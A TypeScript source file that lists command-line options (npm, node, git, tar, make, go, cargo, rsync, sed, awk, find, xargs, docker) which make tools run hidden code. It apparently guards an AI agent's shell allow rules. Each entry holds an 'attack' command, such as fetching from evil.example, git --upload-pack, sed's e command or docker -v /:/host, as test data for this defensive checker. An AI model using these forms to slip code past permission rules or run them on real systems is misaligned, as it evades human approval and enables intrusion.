/**
 * Options (and a few argument forms) that make a common developer tool run code the command line
 * does not show: another file, program, module or configuration. An allow rule such as
 * `Bash(npm test:*)` or `Bash(git fetch:*)` approves the tool doing its job, not running that code,
 * so when one of these appears the prefix match no longer approves the command (it asks; a rule
 * that spells out the whole command still does). One entry per option, each with its source
 * and a corpus case (an attack the rule must not approve, and a look-alike it must).
 */

/** How a program reads its options, which decides which spellings reach an option. */
export type OptionStyle =
  /** GNU getopt_long: `--name`, `--name=v`, unambiguous prefixes `--na`, short clusters `-xvf`. */
  | 'getopt'
  /** git's parse-options: like getopt, prefixes included. */
  | 'git'
  /** npm's nopt: `--name`, `--name=v`, prefixes, and `_` for `-`. */
  | 'npm'
  /** Node.js: `--name`, `--name=v`, `_` for `-` (its documentation says so), short clusters `-pe`. */
  | 'node'
  /** Go's flag package: `-name`, `--name`, `-name=v`; no clusters, no prefixes. */
  | 'go'
  /** clap, cobra/pflag, popt: `--name`, `--name=v`, short clusters; no prefixes. */
  | 'exact';

/** What makes the entry apply. */
export type CodeTrigger =
  /**
   * Any of these option spellings (long `--x`, short `-x`, or single-dash long `-x` for go and
   * find). With `unless`, a value matching it is harmless (`rsync -e ssh`, `man -P cat`); with
   * `when`, only a value matching it runs code (`go build -ldflags=-extld=…`).
   */
  | { readonly kind: 'option'; readonly names: readonly string[]; readonly unless?: RegExp; readonly when?: RegExp }
  /** Always, once the subcommand matches (xargs's command is its "subcommand"). */
  | { readonly kind: 'always' }
  /** A non-option argument matching the pattern (`make CC=…`, `git clone ext::…`). */
  | { readonly kind: 'argument'; readonly pattern: RegExp }
  /** The program text the tool runs (sed's and awk's scripts), by a pattern over it. */
  | { readonly kind: 'program-text'; readonly pattern: RegExp };

/** One entry of the table. */
export type CodeRunningOption = {
  readonly program: readonly string[];
  /** The subcommands (first word that is not an option) it applies to; every one when absent. */
  readonly subcommands?: readonly string[];
  readonly trigger: CodeTrigger;
  /** What it runs, in words, for the person who is asked. */
  readonly runs: string;
  /** Where the behaviour is documented. */
  readonly source: string;
  /** The corpus case: the allow rule, a command it must not approve, and one it still must. */
  readonly example: { readonly rule: string; readonly attack: string; readonly lookAlike: string };
};

const NPM = ['npm', 'pnpm'];
const NPM_DOCS = 'docs.npmjs.com/cli/v10/using-npm/config';
const NODE_DOCS = 'nodejs.org/api/cli.html';
const TAR_DOCS = 'GNU tar manual (gnu.org/software/tar/manual)';
const MAKE_DOCS = 'GNU make manual, 9.7 Summary of Options';
const GO_BUILD = '`go help build` (build flags, shared by run, test, install, vet)';
const CARGO_DOCS = 'doc.rust-lang.org/cargo/commands/cargo.html and /reference/config.html';
const DOCKER_RUN = 'docs.docker.com/reference/cli/docker/container/run';

/** The table, by program. Entries for a program are tried in order. */
export const CODE_RUNNING_OPTIONS: readonly CodeRunningOption[] = [
  // npm and pnpm: configuration given on the command line applies to the scripts they run.
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--node-options'] },
    runs: 'Node.js options for every script (--require loads a module)',
    source: `${NPM_DOCS}#node-options`,
    example: {
      rule: 'Bash(npm test:*)',
      attack: 'npm test --node-options=--require=./x.js',
      lookAlike: 'npm test -- --coverage',
    },
  },
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--script-shell'] },
    runs: 'the shell that runs every script',
    source: `${NPM_DOCS}#script-shell`,
    example: { rule: 'Bash(npm test:*)', attack: 'npm test --script-shell=./evil.sh', lookAlike: 'npm test --silent' },
  },
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--userconfig', '--globalconfig'] },
    runs: 'another .npmrc, which can set script-shell and node-options',
    source: `${NPM_DOCS}#userconfig`,
    example: {
      rule: 'Bash(npm test:*)',
      attack: 'npm test --userconfig ./evil.npmrc',
      lookAlike: 'npm test --workspaces',
    },
  },
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--prefix', '-C'] },
    runs: "another folder's package.json scripts",
    source: `${NPM_DOCS}#prefix`,
    example: { rule: 'Bash(npm test:*)', attack: 'npm test --prefix /tmp/evil', lookAlike: 'npm test --if-present' },
  },
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--call', '-c'] },
    runs: 'a command line (npm exec -c)',
    source: `${NPM_DOCS}#call`,
    example: {
      rule: 'Bash(npm exec tsc:*)',
      attack: "npm exec tsc -c 'touch marker'",
      lookAlike: 'npm exec tsc --no-install',
    },
  },
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--package'] },
    runs: "another package's program (npm exec)",
    source: `${NPM_DOCS}#package`,
    example: { rule: 'Bash(npm exec tsc:*)', attack: 'npm exec tsc --package=evil', lookAlike: 'npm exec tsc --yes' },
  },
  {
    program: NPM,
    trigger: { kind: 'option', names: ['--shell', '--editor', '--browser', '--viewer', '--git', '--init-module'] },
    runs: 'a program or module npm starts (explore, edit, docs, help, git dependencies, init)',
    source: `${NPM_DOCS}#shell`,
    example: {
      rule: 'Bash(npm install:*)',
      attack: 'npm install --git=./evil',
      lookAlike: 'npm install --save-dev typescript',
    },
  },
  {
    program: NPM,
    subcommands: ['install', 'i', 'add', 'ci', 'update', 'up'],
    trigger: { kind: 'option', names: ['--registry'] },
    runs: 'packages from another registry, with their install scripts',
    source: `${NPM_DOCS}#registry`,
    example: {
      rule: 'Bash(npm ci:*)',
      attack: 'npm ci --registry=https://evil.example',
      lookAlike: 'npm ci --no-audit',
    },
  },
  {
    program: ['npx'],
    trigger: { kind: 'option', names: ['--call', '-c', '--package', '-p', '--node-options', '--userconfig'] },
    runs: 'a command line or another package (npx options before the command)',
    source: 'docs.npmjs.com/cli/v10/commands/npx',
    example: {
      rule: 'Bash(npx --yes:*)',
      attack: "npx --yes -c 'touch marker'",
      lookAlike: 'npx --yes tsc --noEmit -p .',
    },
  },
  // node: options before the script.
  {
    program: ['node'],
    trigger: { kind: 'option', names: ['--require', '-r', '--import', '--loader', '--experimental-loader'] },
    runs: 'a module loaded before the program',
    source: `${NODE_DOCS}#-r---require-module`,
    example: { rule: 'Bash(node --test:*)', attack: 'node --test --require=./x.js', lookAlike: 'node --test src' },
  },
  {
    program: ['node'],
    trigger: { kind: 'option', names: ['--eval', '-e', '--print', '-p'] },
    runs: 'code given on the command line',
    source: `${NODE_DOCS}#-e---eval-script`,
    example: {
      rule: 'Bash(node --test:*)',
      attack: "node --test -e 'require(`child_process`)'",
      lookAlike: 'node --test --test-name-pattern=x',
    },
  },
  {
    program: ['node'],
    trigger: {
      kind: 'option',
      names: ['--env-file', '--env-file-if-exists', '--openssl-config', '--experimental-config-file'],
    },
    runs: 'a file that can set NODE_OPTIONS or load an engine',
    source: `${NODE_DOCS}#--env-fileconfig`,
    example: {
      rule: 'Bash(node --test:*)',
      attack: 'node --test --env-file=./evil.env',
      lookAlike: 'node --test --test-only',
    },
  },
  {
    program: ['node'],
    trigger: { kind: 'option', names: ['--inspect', '--inspect-brk', '--inspect-wait', '--inspect-port'] },
    runs: 'a debugger port anyone who reaches it can run code through',
    source: `${NODE_DOCS}#--inspecthostport`,
    example: {
      rule: 'Bash(node --test:*)',
      attack: 'node --test --inspect=0.0.0.0:9229',
      lookAlike: 'node --test --test-concurrency=1',
    },
  },
  {
    program: ['node'],
    trigger: { kind: 'option', names: ['--test-reporter'], unless: /^(spec|tap|dot|junit|lcov)$/ },
    runs: 'a reporter module that is not one of the built-in ones',
    source: `${NODE_DOCS}#--test-reporter`,
    example: {
      rule: 'Bash(node --test:*)',
      attack: 'node --test --test-reporter=./evil.mjs',
      lookAlike: 'node --test --test-reporter=spec',
    },
  },
  // tar.
  {
    program: ['tar'],
    trigger: { kind: 'option', names: ['--to-command'] },
    runs: 'a command for every extracted file',
    source: `${TAR_DOCS}, 4.2.4 Writing to an External Program`,
    example: { rule: 'Bash(tar xf:*)', attack: 'tar xf a.tar --to-command=sh', lookAlike: 'tar xf a.tar -C out' },
  },
  {
    program: ['tar'],
    trigger: { kind: 'option', names: ['--use-compress-program', '-I'] },
    runs: 'a program as the compressor',
    source: `${TAR_DOCS}, 8.1.1 Creating and Reading Compressed Archives`,
    example: {
      rule: 'Bash(tar xf:*)',
      attack: 'tar xf a.tar -I ./evil',
      lookAlike: 'tar xf a.tar --strip-components=1',
    },
  },
  {
    program: ['tar'],
    trigger: { kind: 'option', names: ['--checkpoint-action'] },
    runs: 'a command at each checkpoint (exec=)',
    source: `${TAR_DOCS}, 3.8 Checkpoints`,
    example: {
      rule: 'Bash(tar cf:*)',
      attack: "tar cf a.tar --checkpoint=1 --checkpoint-action=exec='touch marker' src",
      lookAlike: 'tar cf a.tar --exclude=node_modules src',
    },
  },
  {
    program: ['tar'],
    trigger: {
      kind: 'option',
      names: ['--info-script', '--new-volume-script', '-F', '--rsh-command', '--rmt-command'],
    },
    runs: 'a script between volumes, or the remote shell',
    source: `${TAR_DOCS}, 9.6 Using Multiple Tapes and 9.2 Remote Tape Server`,
    example: { rule: 'Bash(tar cf:*)', attack: 'tar cf a.tar -F ./evil.sh src', lookAlike: 'tar cf a.tar -v src' },
  },
  // make.
  {
    program: ['make', 'gmake'],
    trigger: { kind: 'option', names: ['--file', '--makefile', '-f', '--directory', '-C', '--include-dir', '-I'] },
    runs: "another makefile's recipes",
    source: `${MAKE_DOCS} (-f, -C, -I)`,
    example: { rule: 'Bash(make test:*)', attack: 'make test -f /tmp/evil.mk', lookAlike: 'make test -j4' },
  },
  {
    program: ['make', 'gmake'],
    trigger: { kind: 'option', names: ['--eval', '-E'] },
    runs: 'makefile text given on the command line',
    source: `${MAKE_DOCS} (--eval)`,
    example: {
      rule: 'Bash(make test:*)',
      attack: "make test --eval='x:=$(shell touch marker)'",
      lookAlike: 'make test --keep-going',
    },
  },
  {
    program: ['make', 'gmake'],
    trigger: { kind: 'argument', pattern: /^[A-Za-z_.][A-Za-z0-9_.-]*\s*(?:::?|[+?!])?=/ },
    runs: 'a variable overriding the makefile (SHELL, CC or any recipe command)',
    source: 'GNU make manual, 9.5 Overriding Variables',
    example: { rule: 'Bash(make test:*)', attack: 'make test SHELL=./evil.sh', lookAlike: 'make test -s' },
  },
  // go.
  {
    program: ['go'],
    trigger: { kind: 'option', names: ['-exec'] },
    runs: 'a program that runs the test or program binary',
    source: '`go help test` and `go help run` (-exec)',
    example: {
      rule: 'Bash(go test:*)',
      attack: 'go test ./... -exec ./evil',
      lookAlike: 'go test ./... -run TestX -count=1',
    },
  },
  {
    program: ['go'],
    trigger: { kind: 'option', names: ['-toolexec', '-vettool'] },
    runs: 'a program wrapped around every compiler and tool',
    source: `${GO_BUILD} (-toolexec); \`go help vet\` (-vettool)`,
    example: {
      rule: 'Bash(go build:*)',
      attack: 'go build -toolexec=./evil ./...',
      lookAlike: 'go build -o out ./...',
    },
  },
  {
    program: ['go'],
    trigger: { kind: 'option', names: ['-overlay', '-modfile', '-C'] },
    runs: 'other source files, another go.mod (replace directives) or another folder',
    source: `${GO_BUILD} (-overlay, -modfile, -C)`,
    example: {
      rule: 'Bash(go test:*)',
      attack: 'go test -overlay=./evil.json ./...',
      lookAlike: 'go test -race ./...',
    },
  },
  {
    program: ['go'],
    trigger: { kind: 'option', names: ['-ldflags'], when: /extld|linkmode/ },
    runs: 'an external linker program (-extld, -extldflags)',
    source: `${GO_BUILD} (-ldflags) and \`go doc cmd/link\` (-extld)`,
    example: {
      rule: 'Bash(go build:*)',
      attack: "go build -ldflags='-extld=./evil' ./...",
      lookAlike: "go build -ldflags='-X main.version=1' ./...",
    },
  },
  {
    program: ['go'],
    trigger: { kind: 'option', names: ['-gccgoflags', '-compiler'] },
    runs: 'gccgo and its flags (-fplugin loads a library)',
    source: `${GO_BUILD} (-compiler, -gccgoflags)`,
    example: {
      rule: 'Bash(go build:*)',
      attack: 'go build -compiler=gccgo -gccgoflags=-fplugin=./x.so ./...',
      lookAlike: 'go build -gcflags=all=-N ./...',
    },
  },
  {
    program: ['go'],
    subcommands: ['env'],
    trigger: { kind: 'option', names: ['-w'] },
    runs: 'a saved setting such as GOFLAGS=-toolexec=… for every later go command',
    source: '`go help env` (-w)',
    example: { rule: 'Bash(go env:*)', attack: 'go env -w GOFLAGS=-toolexec=./evil', lookAlike: 'go env GOPATH' },
  },
  // cargo.
  {
    program: ['cargo'],
    trigger: { kind: 'option', names: ['--config'] },
    runs: 'configuration such as target.<triple>.runner or build.rustc-wrapper',
    source: `${CARGO_DOCS} (--config; target.<triple>.runner)`,
    example: {
      rule: 'Bash(cargo test:*)',
      attack: 'cargo test --config \'target.x86_64-unknown-linux-gnu.runner="./evil"\'',
      lookAlike: 'cargo test --release',
    },
  },
  {
    program: ['cargo'],
    trigger: { kind: 'option', names: ['--manifest-path', '-Z'] },
    runs: "another crate's build script, or unstable options",
    source: `${CARGO_DOCS} (--manifest-path, -Z)`,
    example: {
      rule: 'Bash(cargo build:*)',
      attack: 'cargo build --manifest-path /tmp/evil/Cargo.toml',
      lookAlike: 'cargo build --all-features',
    },
  },
  // git.
  {
    program: ['git'],
    subcommands: ['clone', 'fetch', 'pull', 'ls-remote', 'archive'],
    trigger: { kind: 'option', names: ['--upload-pack', '--exec'] },
    runs: 'a program in place of git-upload-pack',
    source: 'git-fetch(1), git-clone(1), git-pull(1), git-ls-remote(1), git-archive(1): --upload-pack, --exec',
    example: {
      rule: 'Bash(git fetch:*)',
      attack: "git fetch --upload-pack='touch marker;git-upload-pack' origin",
      lookAlike: 'git fetch --prune origin',
    },
  },
  {
    program: ['git'],
    subcommands: ['clone'],
    trigger: { kind: 'option', names: ['-u'] },
    runs: 'a program in place of git-upload-pack (clone -u)',
    source: 'git-clone(1): -u, --upload-pack',
    example: {
      rule: 'Bash(git clone:*)',
      attack: 'git clone -u ./evil https://example.com/r.git',
      lookAlike: 'git clone --depth 1 https://example.com/r.git',
    },
  },
  {
    program: ['git'],
    subcommands: ['clone'],
    trigger: { kind: 'option', names: ['--template', '--config', '-c'] },
    runs: 'hooks from a template folder, or settings that name programs, in the new repository',
    source: 'git-clone(1): --template, --config',
    example: {
      rule: 'Bash(git clone:*)',
      attack: 'git clone --template=./evil https://example.com/r.git',
      lookAlike: 'git clone --branch main https://example.com/r.git',
    },
  },
  {
    program: ['git'],
    subcommands: ['push'],
    trigger: { kind: 'option', names: ['--receive-pack', '--exec'] },
    runs: 'a program in place of git-receive-pack',
    source: 'git-push(1): --receive-pack, --exec',
    example: {
      rule: 'Bash(git push:*)',
      attack: 'git push --receive-pack=./evil origin main',
      lookAlike: 'git push --force-with-lease origin main',
    },
  },
  {
    program: ['git'],
    subcommands: ['rebase'],
    trigger: { kind: 'option', names: ['--exec', '-x'] },
    runs: 'a command after each commit',
    source: 'git-rebase(1): --exec, -x',
    example: {
      rule: 'Bash(git rebase:*)',
      attack: "git rebase --exec 'touch marker' main",
      lookAlike: 'git rebase --autostash main',
    },
  },
  {
    program: ['git'],
    subcommands: ['difftool'],
    trigger: { kind: 'option', names: ['--extcmd', '-x'] },
    runs: 'a command as the diff tool',
    source: 'git-difftool(1): --extcmd, -x',
    example: {
      rule: 'Bash(git difftool:*)',
      attack: "git difftool --extcmd='touch marker' HEAD",
      lookAlike: 'git difftool --dir-diff HEAD',
    },
  },
  {
    program: ['git'],
    subcommands: ['grep'],
    trigger: { kind: 'option', names: ['--open-files-in-pager', '-O'] },
    runs: 'a pager program on the files found',
    source: 'git-grep(1): -O, --open-files-in-pager',
    example: { rule: 'Bash(git grep:*)', attack: 'git grep -O./evil TODO', lookAlike: 'git grep -n TODO' },
  },
  {
    program: ['git'],
    subcommands: ['log', 'show', 'diff', 'whatchanged', 'format-patch', 'blame', 'cat-file'],
    trigger: { kind: 'option', names: ['--ext-diff', '--textconv'] },
    runs: 'diff programs and text filters the configuration names',
    source: 'git-diff(1), git-log(1): --ext-diff, --textconv',
    example: { rule: 'Bash(git log:*)', attack: 'git log -p --ext-diff', lookAlike: 'git log -p --stat' },
  },
  {
    program: ['git'],
    subcommands: ['submodule', 'bisect'],
    trigger: { kind: 'argument', pattern: /^(foreach|run)$/ },
    runs: 'a command in each submodule, or at each bisect step',
    source: 'git-submodule(1): foreach; git-bisect(1): run',
    example: {
      rule: 'Bash(git submodule:*)',
      attack: "git submodule foreach 'touch marker'",
      lookAlike: 'git submodule status',
    },
  },
  {
    program: ['git'],
    subcommands: ['clone', 'fetch', 'pull', 'push', 'ls-remote', 'remote', 'submodule'],
    trigger: { kind: 'argument', pattern: /^ext::/ },
    runs: 'a command as the transport (git-remote-ext)',
    source: 'git-remote-ext(1)',
    example: {
      rule: 'Bash(git fetch:*)',
      attack: "git fetch 'ext::sh -c touch% marker'",
      lookAlike: 'git fetch origin main',
    },
  },
  // man.
  {
    program: ['man'],
    trigger: { kind: 'option', names: ['--pager', '-P'], unless: /^(cat|less|more)$/ },
    runs: 'a pager program',
    source: 'man(1) (man-db): -P, --pager',
    example: { rule: 'Bash(man:*)', attack: 'man -P ./evil ls', lookAlike: 'man -P cat ls' },
  },
  {
    program: ['man'],
    trigger: { kind: 'option', names: ['--html', '-H', '--config-file', '-C', '--gxditview', '-X'] },
    runs: 'a browser or viewer program, or a configuration that names programs',
    source: 'man(1) (man-db): -H, -C, -X',
    example: { rule: 'Bash(man:*)', attack: 'man -H./evil ls', lookAlike: 'man -k printf' },
  },
  // rsync.
  {
    program: ['rsync'],
    trigger: {
      kind: 'option',
      names: ['--rsh', '-e'],
      unless: /^(\/usr\/bin\/)?ssh(\s+(-[46CTqv]+|-p\s*\d+|-l\s*[\w.-]+|-i\s*[\w./~-]+))*$/,
    },
    runs: 'a program as the remote shell (plain ssh is fine)',
    source: 'rsync(1): -e, --rsh',
    example: {
      rule: 'Bash(rsync -a:*)',
      attack: 'rsync -a -e \'sh -c "touch marker"\' x:src/ out/',
      lookAlike: "rsync -a -e 'ssh -p 2222' src/ host:out/",
    },
  },
  {
    program: ['rsync'],
    trigger: { kind: 'option', names: ['--rsync-path', '--remote-option', '-M'] },
    runs: 'a program as the remote rsync, or options for it',
    source: 'rsync(1): --rsync-path; -M, --remote-option',
    example: {
      rule: 'Bash(rsync -a:*)',
      attack: "rsync -a --rsync-path='touch marker; rsync' src/ host:out/",
      lookAlike: 'rsync -a --delete src/ out/',
    },
  },
  {
    program: ['rsync'],
    trigger: { kind: 'option', names: ['--daemon', '--config'] },
    runs: 'a daemon whose configuration can run pre- and post-transfer commands',
    source: 'rsyncd.conf(5): pre-xfer exec',
    example: {
      rule: 'Bash(rsync -a:*)',
      attack: 'rsync -a --daemon --config=./evil.conf',
      lookAlike: 'rsync -a --exclude=node_modules src/ out/',
    },
  },
  // sed and awk: the program text itself.
  {
    program: ['sed'],
    trigger: {
      kind: 'program-text',
      pattern: /(^|[;\n{}]|\d|\$|\/)\s*e(\s|$|;)|\/[gIiMmp0-9]*e[gIiMmp0-9]*\s*($|;|\})/,
    },
    runs: 'a command (the e command, or the e flag of s///)',
    source: 'GNU sed manual, 3.7 Commands Specific to GNU sed (e) and 3.3 The s Command (e flag)',
    example: {
      rule: 'Bash(sed -n:*)',
      attack: "sed -n '1e touch marker' README.md",
      lookAlike: "sed -n '1,5p' README.md",
    },
  },
  {
    program: ['sed'],
    trigger: { kind: 'option', names: ['--file', '-f'] },
    runs: 'a script from a file, which can use e and w',
    source: 'GNU sed manual, 2.2 Command-Line Options (-f)',
    example: {
      rule: 'Bash(sed -n:*)',
      attack: 'sed -n -f ./evil.sed README.md',
      lookAlike: "sed -n -e '2p' README.md",
    },
  },
  {
    program: ['awk', 'gawk', 'mawk', 'nawk'],
    trigger: {
      kind: 'program-text',
      pattern: /\bsystem\s*\(|(?<!\|)\|&?(?!\|)\s*(getline\b|")|"\s*\|(?!\|)|@load|@include/,
    },
    runs: 'a command (system(), a pipe to or from a command, or a loaded extension)',
    source: 'gawk manual, 9.1.4 Input/Output Functions (system) and 5.6 Redirecting Output (print | command)',
    example: {
      rule: 'Bash(awk -F, *)',
      attack: 'awk -F, \'BEGIN{system("touch marker")}\'',
      lookAlike: 'awk -F, \'$1 == "a" || $2 {print $1}\' README.md',
    },
  },
  {
    program: ['awk', 'gawk', 'mawk', 'nawk'],
    trigger: { kind: 'option', names: ['--file', '-f', '--exec', '-E', '--include', '-i', '--load', '-l'] },
    runs: 'a program or an extension library from a file',
    source: 'gawk manual, 2.2 Command-Line Options (-f, -E, -i, -l)',
    example: {
      rule: 'Bash(awk -F, *)',
      attack: 'awk -F, -f ./evil.awk README.md',
      lookAlike: "awk -F, -v n=1 '{print $n}' README.md",
    },
  },
  // find and xargs.
  {
    program: ['find'],
    trigger: { kind: 'option', names: ['-exec', '-execdir', '-ok', '-okdir'] },
    runs: 'a command for every file found',
    source: 'find(1): ACTIONS (-exec, -execdir, -ok, -okdir)',
    example: {
      rule: 'Bash(find src:*)',
      attack: "find src -name '*.ts' -exec touch marker \\;",
      lookAlike: "find src -name '*.ts' -print",
    },
  },
  {
    program: ['xargs'],
    subcommands: [
      'sh',
      'bash',
      'zsh',
      'dash',
      'ksh',
      'eval',
      'env',
      'python',
      'python3',
      'node',
      'perl',
      'ruby',
      'php',
      'awk',
      'xargs',
    ],
    trigger: { kind: 'always' },
    runs: 'input nobody has seen as code (a shell or interpreter as the command)',
    source: 'xargs(1): the command is run with arguments read from input',
    example: { rule: 'Bash(xargs -n1:*)', attack: "xargs -n1 sh -c 'touch marker'", lookAlike: 'xargs -n1 echo sh' },
  },
  // docker.
  {
    program: ['docker'],
    trigger: { kind: 'option', names: ['--host', '-H', '--context', '--config'] },
    runs: 'another daemon, or another client configuration (its credential helpers are programs)',
    source: 'docs.docker.com/reference/cli/docker (global options)',
    example: { rule: 'Bash(docker ps:*)', attack: 'docker ps --context evil', lookAlike: 'docker ps -a' },
  },
  {
    program: ['docker'],
    subcommands: ['run', 'create'],
    trigger: {
      kind: 'option',
      names: [
        '--privileged',
        '--volume',
        '-v',
        '--mount',
        '--pid',
        '--userns',
        '--cap-add',
        '--security-opt',
        '--device',
      ],
    },
    runs: 'a container that can reach the host (its files, processes or devices)',
    source: `${DOCKER_RUN} (--privileged, -v, --mount, --pid, --cap-add)`,
    example: {
      rule: 'Bash(docker run --rm:*)',
      attack: 'docker run --rm -v /:/host alpine ls /host',
      lookAlike: 'docker run --rm -e CI=1 node:20 ls -v',
    },
  },
  {
    program: ['docker'],
    subcommands: ['compose'],
    trigger: { kind: 'option', names: ['--file', '-f', '--project-directory'] },
    runs: 'another compose file, which can mount host folders and run commands',
    source: 'docs.docker.com/reference/cli/docker/compose (-f, --project-directory)',
    example: {
      rule: 'Bash(docker compose:*)',
      attack: 'docker compose -f /tmp/evil.yml up',
      lookAlike: 'docker compose up -d',
    },
  },
];
